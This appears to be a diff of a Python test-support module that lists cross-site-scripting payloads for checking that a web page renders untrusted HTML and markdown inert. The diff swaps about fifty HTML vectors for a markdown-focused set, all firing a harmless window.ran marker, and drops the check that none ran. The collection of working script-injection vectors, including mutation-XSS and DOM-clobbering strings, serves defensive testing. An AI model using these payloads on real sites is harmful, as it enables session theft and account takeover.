@@ -1,87 +1,67 @@
-"""Texts that would run as scripts where a page took them for markup, and the check that none did."""
+"""Texts that run a script, load something or break out of their place where a page takes them for markup.
+
+Each one that runs sets `window.ran`; what they load is at an address that does not exist.
+"""
 
 from __future__ import annotations
 
-from tests.console.browser import Console
+RUN = "window.ran=1"
+_FAR = "http://198.51.100.7/x"
 
-__all__ = ["PAYLOADS", "assert_inert", "watch_scripts"]
-
-_RUN = "ran.push(1)"
-_MARKUP = [
-    "<script>{run}</script>",
-    "<ScRiPt>{run}</sCrIpT>",
-    "<script src=data:text/javascript,{run}></script>",
-    "</script><script>{run}</script>",
-    "</title><script>{run}</script>",
-    "</textarea><script>{run}</script>",
-    "--><script>{run}</script><!--",
-    "]]><script>{run}</script>",
-    "<img src=x onerror={run}>",
-    "<img src=x onerror='{run}'>",
-    "<img/src=x/onerror={run}>",
-    "<img src=x\nonerror\n=\n{run}>",
-    '"><img src=x onerror={run}>',
-    "'><img src=x onerror={run}>",
-    "`><img src=x onerror={run}>",
-    "<image src=x onerror={run}>",
-    "<svg onload={run}>",
-    "<svg/onload={run}//",
-    "<svg><script>{run}</script></svg>",
-    "<svg><script href=data:text/javascript,{run} /></svg>",
-    "<svg><animate onbegin={run} attributeName=x dur=1s>",
-    "<svg><a xlink:href=javascript:{run}><text y=20>x</text></a></svg>",
-    "<svg><use href='data:image/svg+xml,<svg onload={run}/>#x'>",
-    "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
-    "<math href=javascript:{run}>x</math>",
-    "<body onload={run}>",
-    "<body onpageshow={run}>",
-    "<iframe src=javascript:{run}></iframe>",
-    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
-    "<object data=javascript:{run}></object>",
-    "<embed src=javascript:{run}>",
-    "<a href=javascript:{run}>x</a>",
-    "<a href='java\tscript:{run}'>x</a>",
-    "<a href=' &#106;avascript:{run}'>x</a>",
-    "<form action=javascript:{run}><input type=submit autofocus>",
-    "<button formaction=javascript:{run}>x</button>",
-    "<input autofocus onfocus={run}>",
-    "<select autofocus onfocus={run}>",
-    "<textarea autofocus onfocus={run}>",
-    "<details open ontoggle={run}>x</details>",
-    "<video><source onerror={run}></video>",
-    "<audio src=x onerror={run}>",
-    "<marquee onstart={run}>x</marquee>",
-    "<style onload={run}></style>",
-    "<link rel=stylesheet href=data:text/css, onload={run}>",
-    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
-    "<base href=javascript:{run}//>",
-    "<div style=animation-name:x onanimationstart={run}>x</div>",
-    "<template><script>{run}</script></template><noscript><p title='</noscript><img src=x onerror={run}>'>",
-    "{{constructor.constructor('{run}')()}}${{{run}}}<%= {run} %>[x](javascript:{run})![x](x\"onerror={run})",
-]
-
-PAYLOADS: tuple[str, ...] = tuple(text.replace("{run}", _RUN) for text in _MARKUP)
-"""Fifty payloads. Each would note that it ran."""
-
-_FOUND = """() => ({
-    ran: window.ran.length,
-    scripts: [...document.querySelectorAll('script')].filter((one) => !one.src.startsWith(location.origin)).length,
-    frames: document.querySelectorAll('iframe, object, embed, base, meta[http-equiv=refresh]').length,
-    handlers: [...document.querySelectorAll('*')].filter(
-        (one) => [...one.attributes].some((attribute) => attribute.name.startsWith('on'))).length,
-    addresses: [...document.querySelectorAll('[href], [src], [action], [formaction]')].filter((one) =>
-        ['href', 'src', 'action', 'formaction'].some((name) =>
-            /^\\s*(javascript|vbscript|data:text)/i.test(one.getAttribute(name) ?? ''))).length,
-})"""
-
-
-def watch_scripts(console: Console) -> None:
-    """Gives payloads something to note that they ran. To be called before the page is opened."""
-    console.page.add_init_script("window.ran = []")
-
-
-def assert_inert(console: Console) -> None:
-    """Holds that no payload ran, and that none became a script, a frame, a handler or an address."""
-    found = console.page.evaluate(_FOUND)
-    assert found == {"ran": 0, "scripts": 0, "frames": 0, "handlers": 0, "addresses": 0}
-    console.check()
+PAYLOADS: tuple[str, ...] = (
+    f"<script>{RUN}</script>",
+    f"<SCRIPT>{RUN}</SCRIPT >",
+    f"<script src={_FAR}.js></script>",
+    f"<img src=x onerror={RUN}>",
+    f"<img src=x onerror='{RUN}'>",
+    f'"><img src=x onerror={RUN}>',
+    f"'><img src=x onerror={RUN}>",
+    f"</textarea><img src=x onerror={RUN}>",
+    f"</title><script>{RUN}</script>",
+    f"<img src={_FAR}.png>",
+    f"![picture]({_FAR}.png)",
+    f"![x](x' onerror='{RUN})",
+    f'![x](x" onerror="{RUN})',
+    f"![x](data:image/svg+xml,<svg onload={RUN}>)",
+    f"![x](data:text/html,<script>{RUN}</script>)",
+    f"[click](javascript:{RUN})",
+    f"[click](JaVaScRiPt:{RUN})",
+    f"[click](java\nscript:{RUN})",
+    f"[click](&#106;avascript:{RUN})",
+    f"[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=)",
+    f"[click](vbscript:{RUN})",
+    f'[click](x "title" onmouseover="{RUN}")',
+    f"<a href=javascript:{RUN}>click</a>",
+    f"<a href='x' onclick={RUN} autofocus onfocus={RUN}>click</a>",
+    f"<javascript:{RUN}>",
+    f"<svg onload={RUN}>",
+    f"<svg><script>{RUN}</script></svg>",
+    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
+    f"<svg><use href=data:image/svg+xml,<svg id=x onload={RUN}>#x>",
+    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={RUN}>'>",
+    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
+    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
+    f"<iframe src=javascript:{RUN}></iframe>",
+    f"<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
+    f"<object data={_FAR}></object><embed src={_FAR}>",
+    f"<body onload={RUN}>",
+    f"<details open ontoggle={RUN}>x</details>",
+    f"<input autofocus onfocus={RUN}>",
+    f"<select autofocus onfocus={RUN}>",
+    f"<video src=x onerror={RUN}></video><audio src={_FAR} autoplay></audio>",
+    f"<marquee onstart={RUN}>x</marquee>",
+    f"<style>@import '{_FAR}.css'; *{{background:url({_FAR})}}</style>",
+    f"<link rel=stylesheet href={_FAR}.css>",
+    f"<meta http-equiv=refresh content='0;url={_FAR}'>",
+    f"<base href={_FAR}/>",
+    f"<div style='background:url({_FAR});position:fixed;inset:0'>x</div>",
+    f"<template><img src=x onerror={RUN}></template>",
+    f"`<img src=x onerror={RUN}>`",
+    f"```html\n<img src=x onerror={RUN}>\n```",
+    f'```"><img src=x onerror={RUN}>\ncode\n```',
+    f"| <img src=x onerror={RUN}> | b |\n|---|---|\n| <svg onload={RUN}> | {{{{constructor.constructor('{RUN}')()}}}} |",
+    f"[x]: javascript:{RUN}\n\n[x]\n\n<br onclick={RUN}><sub style=color:red>s</sub>",
+    f"<form action={_FAR}><input name=attributes><button formaction=javascript:{RUN}>x</button></form>",
+    f"<img name=getElementById><img id=app><a id=location href=x>",
+    f"\u2028</script>\u0000<script>{RUN}</script>",
+)
